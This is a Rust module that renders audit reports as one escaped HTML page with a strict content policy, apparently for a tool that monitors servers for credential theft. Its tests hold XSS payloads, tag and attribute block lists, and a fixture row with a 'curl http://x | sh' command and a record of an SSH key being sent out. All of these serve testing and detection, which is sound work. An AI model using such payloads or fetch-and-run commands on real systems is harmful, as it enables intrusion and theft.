//! The HTML renderer: one self-contained HTML5 page.
//!
//! The page has an inline style sheet and nothing else: no script, no link, no image, no
//! form, and a Content-Security-Policy (`default-src 'none'; style-src 'unsafe-inline'`) that
//! would block any of them anyway. Every string from the server is made printable (control and
//! invisible format characters escaped, see [`crate::escape`]), cut, and then passed through
//! [`esc`], which escapes `& < > " '`; it is written only as element text or inside a quoted
//! `title` attribute, never into a URL, `href`, `src`, `style` or event attribute. Class names
//! come only from this module's own constants.
//!
//! The sections are [`crate::sections`]'s, built once for every format: this module renders
//! each kind of body and cell one way (a cell's kind is its class: `mono`, `num`, `o-pass`...),
//! and writes the header (the verdict banner, what the run recorded) and the page around them.

use crate::escape;
use crate::sections::{self, Body, Cell, Items, Section};
use crate::tables::{self, claim_status, NAME, WIDE};
use glassbox_model::{AuditReport, Evidence, Outcome, Verdict};
use std::fmt::Write as _;

/// The Content-Security-Policy of the page.
pub(crate) const CSP: &str = "default-src 'none'; style-src 'unsafe-inline'";

/// Text escaped for HTML element content and for quoted attribute values alike.
pub(crate) fn esc(s: &str) -> String {
    let mut out = String::with_capacity(s.len() + s.len() / 8);
    for c in s.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            _ => out.push(c),
        }
    }
    out
}

/// A server string made printable and cut at `max` characters (still to be [`esc`]aped).
fn plain(s: &str, max: usize) -> String {
    escape::truncate(&escape::text(s), max)
}

const STYLE: &str = r#"
:root { color-scheme: light dark; --fg: #1b1f24; --bg: #fff; --muted: #59636e; --line: #d1d9e0;
  --red: #b3261e; --green: #1a7f37; --amber: #9a6700; --panel: #f6f8fa; }
@media (prefers-color-scheme: dark) {
  :root { --fg: #e6edf3; --bg: #0d1117; --muted: #9198a1; --line: #3d444d; --red: #f85149;
    --green: #3fb950; --amber: #d29922; --panel: #151b23; } }
body { font: 15px/1.5 system-ui, -apple-system, "Segoe UI", sans-serif; color: var(--fg);
  background: var(--bg); margin: 0 auto; max-width: 72rem; padding: 1.5rem; }
h1 { font-size: 1.4rem; margin: 0 0 .5rem; word-break: break-all; }
h2 { font-size: 1.15rem; margin: 2rem 0 .5rem; border-bottom: 1px solid var(--line); }
h3 { font-size: 1rem; margin: 1.2rem 0 .3rem; }
code, .mono { font-family: ui-monospace, SFMono-Regular, Menlo, Consolas, monospace;
  font-size: .9em; overflow-wrap: anywhere; }
table { border-collapse: collapse; width: 100%; margin: .5rem 0; }
th, td { text-align: left; vertical-align: top; padding: .25rem .5rem;
  border-bottom: 1px solid var(--line); overflow-wrap: anywhere; }
th { background: var(--panel); overflow-wrap: normal; }
td.num { text-align: right; white-space: nowrap; }
.banner { border-radius: 6px; padding: 1rem 1.25rem; margin: 0 0 1rem; border: 2px solid; }
.banner .verdict { font-size: 1.5rem; font-weight: 700; }
.clean { border-color: var(--green); color: var(--green); }
.flagged { border-color: var(--red); color: var(--red); }
.withheld, .inconclusive { border-color: var(--amber); color: var(--amber); }
.banner p { color: var(--fg); margin: .3rem 0 0; }
dl.meta { display: grid; grid-template-columns: max-content 1fr; gap: .1rem 1rem; margin: 0; }
dl.meta dt { color: var(--muted); }
dl.meta dd { margin: 0; overflow-wrap: anywhere; }
.o-pass { color: var(--green); }
.o-flag { color: var(--red); font-weight: 700; }
.o-none { color: var(--amber); }
.muted, .refs { color: var(--muted); }
.withheld-mark { color: var(--amber); font-weight: 700; }
ul.findings { padding-left: 1.2rem; }
ul.findings li { margin: .2rem 0; }
.more { color: var(--muted); font-style: italic; }
footer { margin-top: 2rem; color: var(--muted); font-size: .85em; }
"#;

pub(crate) fn render(ev: &Evidence, report: &AuditReport) -> String {
    let mut out = String::new();
    let command = esc(&tables::command(ev));
    // The policy is written as is (a constant holding no `"`, `<` or `&`), so that it reads
    // as the exact string a person or a scanner looks for.
    let _ = write!(
        out,
        "<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n\
         <meta http-equiv=\"Content-Security-Policy\" content=\"{CSP}\">\n\
         <meta name=\"referrer\" content=\"no-referrer\">\n\
         <meta name=\"viewport\" content=\"width=device-width, initial-scale=1\">\n\
         <title>glassbox audit: {command}</title>\n<style>{STYLE}</style>\n</head>\n<body>\n"
    );
    header(&mut out, ev, report, &command);
    out.push_str("<main>\n");
    for sec in sections::all(ev, report) {
        section(&mut out, &sec);
    }
    out.push_str("</main>\n");
    let _ = writeln!(
        out,
        "<footer>glassbox {} · run {} · evidence {}</footer>",
        esc(&plain(&report.glassbox_version, NAME)),
        esc(&plain(&report.run_id, WIDE)),
        esc(&plain(&report.evidence_dir, WIDE))
    );
    out.push_str("</body>\n</html>\n");
    out
}

fn header(out: &mut String, ev: &Evidence, report: &AuditReport, command: &str) {
    let _ = writeln!(
        out,
        "<header>\n<h1>glassbox audit: <code>{command}</code></h1>"
    );
    let class = match report.verdict {
        Verdict::Clean => "clean",
        Verdict::Flagged => "flagged",
        Verdict::Withheld => "withheld",
        Verdict::Inconclusive => "inconclusive",
    };
    let _ = writeln!(
        out,
        "<div class=\"banner {}\"><div class=\"verdict\">{}</div>",
        esc(class),
        esc(tables::verdict(report.verdict))
    );
    if let Some(reason) = &report.inconclusive_reason {
        let _ = writeln!(out, "<p>Reason: {}</p>", esc(&plain(reason, usize::MAX)));
    }
    out.push_str("</div>\n<dl class=\"meta\">\n");
    let mut item = |term: &str, value: String| {
        let _ = writeln!(out, "<dt>{}</dt><dd>{}</dd>", esc(term), esc(&value));
    };
    item("run", plain(&report.run_id, WIDE));
    item("evidence", plain(&report.evidence_dir, WIDE));
    item("session", tables::session(ev));
    if let Some(exit) = tables::server_exit(ev) {
        item("server", exit);
    }
    item("recorded", tables::recorded(ev));
    if let Some(text) = tables::network(ev) {
        item("network", text);
    }
    out.push_str("</dl>\n</header>\n");
}

fn heading(out: &mut String, title: &str) {
    let _ = writeln!(out, "<section>\n<h2>{}</h2>", esc(title));
}

fn para(out: &mut String, class: &str, s: &str) {
    let _ = writeln!(out, "<p class=\"{}\">{}</p>", esc(class), esc(s));
}

/// The head of a table of `titles`; the site's tables start so too.
pub(crate) fn table<'a>(out: &mut String, titles: impl IntoIterator<Item = &'a str>) {
    out.push_str("<table>\n<thead><tr>");
    for h in titles {
        let _ = write!(out, "<th>{}</th>", esc(h));
    }
    out.push_str("</tr></thead>\n<tbody>\n");
}

/// The end of a table.
pub(crate) fn end_table(out: &mut String) {
    out.push_str("</tbody>\n</table>\n");
}

/// A cell holding `s` (escaped here); `class` is one of this module's constants ("" for none).
fn cell(class: &str, s: &str) -> String {
    if class.is_empty() {
        format!("<td>{}</td>", esc(s))
    } else {
        format!("<td class=\"{}\">{}</td>", esc(class), esc(s))
    }
}

fn row(out: &mut String, cells: &[String]) {
    let _ = writeln!(out, "<tr>{}</tr>", cells.concat());
}

fn more(out: &mut String, shown: usize, total: usize, see: &str) {
    if total > shown {
        para(
            out,
            "more",
            &format!("… and {} more (see {see})", total - shown),
        );
    }
}

/// The outcome's class, label, and whether a claim is made.
fn outcome(o: Outcome) -> (&'static str, &'static str) {
    let class = match o {
        Outcome::Pass => "o-pass",
        Outcome::Flag => "o-flag",
        _ => "o-none",
    };
    (class, tables::outcome(o))
}

/// A section ([`sections::Section`]): its heading, then its body.
fn section(out: &mut String, sec: &Section) {
    heading(out, &sec.title);
    body(out, &sec.body);
    out.push_str("</section>\n");
}

fn body(out: &mut String, b: &Body) {
    match b {
        Body::Note(why) => para(out, "muted", why),
        Body::Text(text) => para(out, "muted", text),
        Body::Table(t) => {
            table(out, t.columns.iter().map(|c| c.title));
            for r in &t.rows {
                let cells: Vec<String> = r.iter().map(table_cell).collect();
                row(out, &cells);
            }
            end_table(out);
            more(out, t.rows.len(), t.total, t.see);
        }
        Body::Checks(checks) => {
            table(
                out,
                [
                    "check", "version", "claim", "severity", "outcome", "status", "reason",
                ],
            );
            for c in checks {
                let (class, label) = outcome(c.outcome);
                row(
                    out,
                    &[
                        cell("mono", &c.id),
                        cell("num", &c.version.to_string()),
                        cell("", &c.claim),
                        cell("", tables::severity(c.severity)),
                        cell(class, label),
                        cell(class, claim_status(c.outcome)),
                        cell("muted", c.reason.as_deref().unwrap_or_default()),
                    ],
                );
            }
            end_table(out);
        }
        Body::Findings(checks) => {
            for c in checks {
                let (class, label) = outcome(c.outcome);
                let _ = writeln!(
                    out,
                    "<h3><span class=\"mono\">{}</span> v{} <span class=\"{}\">{}</span></h3>",
                    esc(&c.id),
                    c.version,
                    esc(class),
                    esc(label),
                );
                if c.findings.total > 0 {
                    items(out, &c.findings);
                }
                if c.notes.total > 0 {
                    para(out, "muted", "Notes:");
                    items(out, &c.notes);
                }
            }
        }
        Body::Parts(parts) => {
            for p in parts {
                body(out, p);
            }
        }
    }
}

fn table_cell(c: &Cell) -> String {
    match c {
        Cell::Mono(t) => cell("mono", t),
        Cell::Text(t) | Cell::Own(t) => cell("", t),
        Cell::Num(n) => cell("num", &n.to_string()),
        Cell::Ms(ns) => cell("num", &tables::ms(*ns)),
        Cell::Status { good: true, text } => cell("o-pass", text),
        Cell::Status { good: false, text } => cell("o-flag", text),
    }
}

/// A list of findings or notes, then how many more there are.
fn items(out: &mut String, list: &Items) {
    out.push_str("<ul class=\"findings\">\n");
    for i in &list.shown {
        let _ = write!(out, "<li>{} ", esc(list.mark.glyph()));
        if i.withheld {
            out.push_str("<span class=\"withheld-mark\">withheld until reviewed:</span> ");
        }
        out.push_str(&esc(&i.summary));
        let refs: Vec<String> = i.refs().iter().map(|r| esc(r)).collect();
        if !refs.is_empty() {
            let _ = write!(out, " <span class=\"refs\">[{}]</span>", refs.join("; "));
        }
        out.push_str("</li>\n");
    }
    out.push_str("</ul>\n");
    more(out, list.shown.len(), list.total, list.see);
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fixture::{self, HOSTILE};

    /// One tag of a document: its lower-cased name, whether it closes, its attributes.
    #[derive(Debug)]
    struct Tag {
        name: String,
        closing: bool,
        attrs: Vec<(String, String)>,
    }

    /// The tags of `doc`, and the text between them (the style sheet's content skipped).
    /// Panics on anything but `<name attr="value"…>` and `</name>`: an unquoted or
    /// single-quoted value, a `<` inside a tag, a tag left open.
    fn parse(doc: &str) -> (Vec<Tag>, String) {
        let mut tags = Vec::new();
        let mut text = String::new();
        let mut rest = doc;
        while let Some(lt) = rest.find('<') {
            text.push_str(&rest[..lt]);
            rest = &rest[lt + 1..];
            let (closing, body) = match rest.strip_prefix('/') {
                Some(b) => (true, b),
                None => (false, rest),
            };
            let name_end = body
                .find(|c: char| c.is_whitespace() || c == '>')
                .expect("a tag name");
            let name = body[..name_end].to_ascii_lowercase();
            let mut attrs = Vec::new();
            let mut s = &body[name_end..];
            loop {
                s = s.trim_start();
                if let Some(after) = s.strip_prefix('>') {
                    s = after;
                    break;
                }
                let end = s
                    .find(|c: char| c == '=' || c == '>' || c.is_whitespace())
                    .expect("an attribute name");
                let attr = s[..end].to_ascii_lowercase();
                assert!(!attr.contains(['<', '"', '\'']), "bad attribute {attr:?}");
                s = &s[end..];
                let value = match s.strip_prefix("=\"") {
                    Some(v) => {
                        let close = v.find('"').expect("a closing quote");
                        let value = &v[..close];
                        assert!(!value.contains(['<', '>']), "{value:?} in an attribute");
                        s = &v[close + 1..];
                        value.to_string()
                    }
                    None => {
                        assert!(!s.starts_with('='), "unquoted value of {attr} in <{name}>");
                        String::new()
                    }
                };
                attrs.push((attr, value));
            }
            rest = s;
            if name == "style" && !closing {
                let end = rest.find("</style>").expect("the style sheet's end");
                assert!(!rest[..end].contains('<'), "markup in the style sheet");
                rest = &rest[end..];
            }
            tags.push(Tag {
                name,
                closing,
                attrs,
            });
        }
        text.push_str(rest);
        (tags, text)
    }

    const TAGS: &[&str] = &[
        "!doctype", "html", "head", "meta", "title", "style", "body", "header", "main", "footer",
        "section", "h1", "h2", "h3", "p", "div", "span", "code", "dl", "dt", "dd", "table",
        "thead", "tbody", "tr", "th", "td", "ul", "li",
    ];
    const ATTRS: &[&str] = &[
        "html",
        "lang",
        "charset",
        "http-equiv",
        "content",
        "name",
        "class",
    ];
    const VOID: &[&str] = &["!doctype", "meta"];

    /// Checks what every page must be, and returns its tags and text.
    fn check_page(doc: &str) -> (Vec<Tag>, String) {
        assert!(doc.starts_with("<!DOCTYPE html>\n<html lang=\"en\">\n<head>\n<meta charset=\"utf-8\">\n<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; style-src 'unsafe-inline'\">\n"), "{doc}");
        let (tags, text) = parse(doc);
        // Only our tags and attributes: no script, image, link, frame, form; no handler,
        // href, src or style attribute.
        for t in &tags {
            assert!(TAGS.contains(&t.name.as_str()), "<{}> in\n{doc}", t.name);
            for (a, v) in &t.attrs {
                assert!(ATTRS.contains(&a.as_str()), "{a}= on <{}>", t.name);
                assert!(!a.starts_with("on"), "{a}=");
                let v = v.to_ascii_lowercase();
                assert!(
                    !v.contains("javascript") && !v.contains("alert"),
                    "{a}={v:?}"
                );
            }
        }
        let markup: String = tags
            .iter()
            .map(|t| format!("<{} {:?}>", t.name, t.attrs))
            .collect();
        for bad in [
            "<script",
            "<img",
            "onerror",
            "onmouseover",
            "href",
            "src=",
            "style=",
        ] {
            assert!(!markup.contains(bad), "{bad} in markup");
        }
        let lower = doc.to_ascii_lowercase();
        for bad in [
            "<script", "<img", "<a ", "<link", "<iframe", "href", "url(", "@import",
        ] {
            assert!(!lower.contains(bad), "{bad} in\n{doc}");
        }
        // Balanced: every element closed, in order; one of each document element.
        let mut stack: Vec<&str> = Vec::new();
        for t in &tags {
            if VOID.contains(&t.name.as_str()) {
                assert!(!t.closing, "</{}>", t.name);
            } else if t.closing {
                assert_eq!(
                    stack.pop(),
                    Some(t.name.as_str()),
                    "unbalanced </{}>",
                    t.name
                );
            } else {
                stack.push(&t.name);
            }
        }
        assert!(stack.is_empty(), "left open: {stack:?}");
        let count = |name: &str, closing: bool| {
            tags.iter()
                .filter(|t| t.name == name && t.closing == closing)
                .count()
        };
        for one in ["html", "head", "body", "title", "style", "main"] {
            assert_eq!(count(one, false), 1, "<{one}>");
        }
        assert_eq!(lower.matches("<html").count(), 1);
        assert_eq!(lower.matches("</style>").count(), 1, "one style sheet end");
        assert_eq!(
            lower.matches("<table").count(),
            lower.matches("</table>").count()
        );
        assert!(count("table", false) > 0);
        assert_eq!(
            tags.iter()
                .filter(|t| t.name == "meta"
                    && t.attrs
                        == [
                            ("http-equiv".into(), "Content-Security-Policy".into()),
                            ("content".into(), CSP.into())
                        ])
                .count(),
            1,
            "the CSP"
        );
        // Text holds no markup character unescaped, and no control or format character.
        assert!(!text.contains(['>', '"', '\'']), "{text}");
        for c in doc.chars() {
            assert!(c == '\n' || !c.is_control(), "{c:?}");
        }
        assert!(!doc.contains('\u{202e}'));
        (tags, text)
    }

    #[test]
    fn esc_escapes_the_five() {
        assert_eq!(
            esc(r#"<a href="x" title='y'>&amp;</a>"#),
            "&lt;a href=&quot;x&quot; title=&#39;y&#39;&gt;&amp;amp;&lt;/a&gt;"
        );
        assert_eq!(esc("plain ünïcode"), "plain ünïcode");
        assert!(!CSP.contains(['"', '<', '>', '&']), "written as is");
    }

    #[test]
    fn a_normal_report_has_every_section() {
        let (ev, rep) = fixture::normal();
        let doc = render(&ev, &rep);
        check_page(&doc);
        let mut at = 0;
        for s in [
            "<title>glassbox audit: node server.js</title>",
            "<h1>glassbox audit: <code>node server.js</code></h1>",
            "<div class=\"banner flagged\"><div class=\"verdict\">FLAGGED</div>",
            "<dt>run</dt><dd>run-42</dd>",
            "<h2>Checks</h2>",
            "<h2>Findings</h2>",
            "<h2>Files touched under home</h2>",
            "<h2>Processes</h2>",
            "<h2>Connection attempts</h2>",
            "<h2>Network flows</h2>",
            "<h2>Tools (2)</h2>",
            "<h2>Surface exercised</h2>",
            "<p class=\"muted\">1 of 2 tools called (1 call), 1 of 1 resource read, 1 of 1 template expanded (2 reads), 0 of 1 prompt got, 1 completion requested; the server asked: 1 elicitation/create (1 canary given), 2 sampling/createMessage</p>",
            "<tr><td>resource template</td><td class=\"mono\">file:///{path}</td><td>2 reads: ok 1, rpc error 1</td><td>1 completion; first error: no such file</td></tr>",
            "<tr><td class=\"mono\">read:file:///home/user/.aws/credentials</td><td>path: a planted credential</td><td>rpc error</td><td>no such file</td></tr>",
            "<p class=\"muted\">Left out: the calls&#39; budget ran out: 1 prompt got fewer gets than its plan</p>",
            "<h2>Timeline</h2>",
            "<footer>glassbox 0.1.0 · run run-42 · evidence /var/lib/glassbox/run-42</footer>",
        ] {
            let found = doc[at..]
                .find(s)
                .unwrap_or_else(|| panic!("{s:?} missing (in order) in\n{doc}"));
            at += found + s.len();
        }
        for line in [
            "<tr><td class=\"mono\">credential-probe</td><td class=\"num\">1</td><td>the claim of credential-probe</td><td>high</td><td class=\"o-flag\">flag</td><td class=\"o-flag\">claim broken</td><td class=\"muted\"></td></tr>",
            "<tr><td class=\"mono\">process-spawn</td><td class=\"num\">1</td><td>the claim of process-spawn</td><td>high</td><td class=\"o-pass\">pass</td><td class=\"o-pass\">claim holds</td><td class=\"muted\"></td></tr>",
            "<td class=\"o-none\">unverified</td><td class=\"o-none\">no claim</td><td class=\"muted\">no positive control passed in this build</td></tr>",
            "<td class=\"o-none\">not-observed</td><td class=\"o-none\">no claim</td><td class=\"muted\">fanotify is not available</td></tr>",
            "<li>✗ read + stat of ~/.ssh/id_rsa (planted secret) during call:get_weather <span class=\"refs\">[events 3, 4, 5; phase call:get_weather]</span></li>",
            "<li>✗ <span class=\"withheld-mark\">withheld until reviewed:</span> sent ~/.ssh/id_rsa to api.example.com <span class=\"refs\">[event 9; flows 1, 2; phase call:get_weather]</span></li>",
            "<tr><td class=\"mono\">~/.ssh/id_rsa</td><td>read+stat</td><td>call:get_weather, shutdown</td><td class=\"num\">3</td></tr>",
            "<tr><td class=\"num\">9</td><td class=\"num\">1</td><td class=\"mono\">sh -c &#39;curl http://x | sh&#39;</td><td>call:run</td><td class=\"num\">1</td></tr>",
            "<tr><td>capture</td><td class=\"num\">0</td><td class=\"num\">2</td><td class=\"o-pass\">verified</td><td class=\"num\">0</td></tr>",
            "<tr><td>capture</td><td>tcp</td><td class=\"mono\">198.18.0.7:443 = api.example.com SNI api.example.com</td><td class=\"num\">2</td><td class=\"num\">6</td><td class=\"num\">1034</td><td></td><td>1, 2</td></tr>",
            "<tr><td class=\"mono\">get_weather</td><td>yes</td><td>ok</td><td>Get the weather for a city.</td></tr>",
            "<tr><td class=\"mono\">run</td><td>no</td><td>not called</td><td>Runs a command.</td></tr>",
            "<tr><td class=\"mono\">call:get_weather</td><td class=\"num\">205.0</td><td class=\"num\">1340.2</td><td class=\"num\">1135.2</td></tr>",
        ] {
            assert!(doc.contains(line), "{line:?} missing in\n{doc}");
        }
        assert!(!doc.contains("/usr/lib/node"), "only files under home");
    }

    #[test]
    fn hostile_strings_stay_text() {
        let (ev, rep) = fixture::hostile();
        let doc = render(&ev, &rep);
        println!("{doc}");
        let (_, text) = check_page(&doc);
        for piece in HOSTILE {
            let shown = esc(&escape::text(piece));
            // (`</style>` is in the page once: the style sheet's own end, see `check_page`.)
            if piece.contains(['<', '>', '"', '\'', '&']) && piece != fixture::STYLE {
                assert!(!doc.contains(piece), "{piece:?} unescaped in\n{doc}");
                assert_ne!(shown, piece);
            }
            // Each piece is a tool name (a row of its own) and a finding summary.
            assert!(
                doc.contains(&format!("<td class=\"mono\">{shown}</td>")),
                "{shown:?} missing in\n{doc}"
            );
            assert!(doc.contains(&format!("<li>✗ {shown} <span")), "{shown:?}");
        }
        assert!(doc.contains("&lt;script&gt;alert(1)&lt;/script&gt;"));
        assert!(doc.contains("&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"));
        assert!(doc.contains("&#39; onmouseover=&#39;alert(1)"));
        assert!(doc.contains("&lt;/style&gt;"));
        assert!(doc.contains("\\u{1b}[2J\\u{7}\\n# FAKE\\r\\u{202e}gpj.exe"));
        // In the title and banner too, and in the SNI and DNS columns.
        assert!(doc.contains("<title>glassbox audit: node &#39;&lt;script&gt;"));
        assert!(doc.contains("<p>Reason: &lt;script&gt;"));
        assert!(doc.contains("SNI &lt;script&gt;alert(1)&lt;/script&gt;</td>"));
        assert!(doc.contains("<td class=\"mono\">&lt;/style&gt; (A)</td>"));
        assert!(!text.contains("<script>alert(1)</script>"));
    }

    #[test]
    fn long_lists_are_capped() {
        let (ev, rep) = fixture::long();
        let doc = render(&ev, &rep);
        check_page(&doc);
        for n in [
            "… and 7 more (see events.jsonl)",
            "… and 3 more (see events.jsonl)",
            "… and 1 more (see events.jsonl)",
            "… and 4 more (see network.jsonl)",
            "… and 2 more (see report.json)",
            "… and 4 more (see report.json)",
            "… and 5 more (see manifest.json)",
            "… and 3 more (see report.json)",
        ] {
            assert!(
                doc.contains(&format!("<p class=\"more\">{n}</p>")),
                "{n:?} missing in\n{doc}"
            );
        }
        assert!(doc.contains("[events 1, 2, 3, 4, 5, 6, 7, 8, +12; phase startup]"));
        assert!(doc.contains("<p class=\"muted\">… and 2 more left out (see report.json).</p>"));
        use crate::tables::{FILES_CAP, TOOLS_CAP};
        assert!(doc.contains(&format!(">~/f{}</td>", FILES_CAP - 1)));
        assert!(!doc.contains(&format!(">~/f{FILES_CAP}</td>")));
        assert!(doc.contains(&format!("<td class=\"mono\">t{}</td>", TOOLS_CAP - 1)));
        assert!(!doc.contains(&format!("<td class=\"mono\">t{TOOLS_CAP}</td>")));
    }
}
